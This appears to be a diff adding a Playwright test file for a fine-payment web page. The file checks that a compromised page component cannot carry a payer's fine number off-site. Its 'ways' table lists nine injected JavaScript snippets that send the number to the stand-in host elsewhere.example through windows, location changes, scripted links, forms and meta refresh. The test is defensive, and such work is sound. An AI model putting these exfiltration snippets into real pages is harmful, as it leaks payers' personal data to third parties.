@@ -1,0 +1,70 @@
+/// <reference lib="dom" />
+import type { Page } from 'playwright/test';
+import { releasePastChecks } from '../set-up/release-past-checks.ts';
+import { expect, test } from '../set-up/test.ts';
+import { fines } from '../pay/set-up/walk.ts';
+import { addCode } from './set-up/add-code.ts';
+
+/* What a release of the look-up or of the information pages can do to somebody who pays, in the same page. */
+
+test.use({
+  expectedErrors:
+    /not go elsewhere|read only|Cannot (assign|redefine|add|delete)|not extensible|read-only|Not in the registry/,
+});
+
+const address = (fine: { number: string; key: string }) => `/tai/amende/${fine.number}/${fine.key}`;
+
+const { number } = fines.short;
+
+/** Each carries the number out; run in the page, which it leaves when it succeeds. */
+const ways: Readonly<Record<string, string>> = {
+  'a new window': `open('https://elsewhere.example/?' + n)`,
+  'a new window that is led on': `open('about:blank').location = 'https://elsewhere.example/?' + n`,
+  'the location': `location.href = 'https://elsewhere.example/?' + n`,
+  'the location, replaced': `location.replace('https://elsewhere.example/?' + n)`,
+  'a link that is clicked by a script': `const a = document.createElement('a'); a.href = 'https://elsewhere.example/?' + n; document.body.append(a); a.click()`,
+  'a link to a new window': `const a = document.createElement('a'); a.href = 'https://elsewhere.example/?' + n; a.target = '_blank'; document.body.append(a); a.click()`,
+  'a link that nobody sees': `const a = document.createElement('a'); a.href = 'https://elsewhere.example/?' + n; a.target = '_blank'; a.click()`,
+  'a form': `const f = document.createElement('form'); f.action = 'https://elsewhere.example/'; document.body.append(f); f.submit()`,
+  'a refresh': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=https://elsewhere.example/?' + n; document.head.append(m)`,
+};
+
+/** The addresses elsewhere that the browser was sent to. */
+function noteDepartures(page: Page): readonly string[] {
+  const departures: string[] = [];
+  page.context().on('request', (request) => {
+    if (request.url().includes('elsewhere.example')) departures.push(request.url());
+  });
+  return departures;
+}
+
+for (const [way, code] of Object.entries(ways)) {
+  test(`a part carries no number out by ${way}`, async ({ page, fragileSite }) => {
+    const hostile = `addEventListener('carry', () => { const n = '${number}'; ${code}; });`;
+    await releasePastChecks(fragileSite.folder, 'lookup', addCode(hostile));
+    await page
+      .context()
+      .route('https://elsewhere.example/**', (route) =>
+        route.fulfill({ contentType: 'text/html', body: 'carried' }),
+      );
+    const departures = noteDepartures(page);
+    await page.goto(`${fragileSite.origin}/tai`);
+    await expect(page.locator('[data-boundary="lookup"]')).toBeVisible();
+    await page.evaluate(() => dispatchEvent(new Event('carry')));
+    await page.waitForTimeout(1000);
+    expect(departures).toEqual([]);
+    await expect(page.locator('[data-boundary="lookup"]')).toBeVisible();
+  });
+}
+
+test('a link to another site is still a link', async ({ page }) => {
+  await page
+    .context()
+    .route('https://www.antai.gouv.fr/**', (route) =>
+      route.fulfill({ contentType: 'text/html', body: 'there' }),
+    );
+  await page.goto('/tai');
+  await expect(page.locator('[data-boundary="lookup"]')).toBeVisible();
+  await page.getByRole('contentinfo').locator('a[href^="https://www.antai"]').click();
+  await expect(page.locator('body')).toHaveText('there');
+});
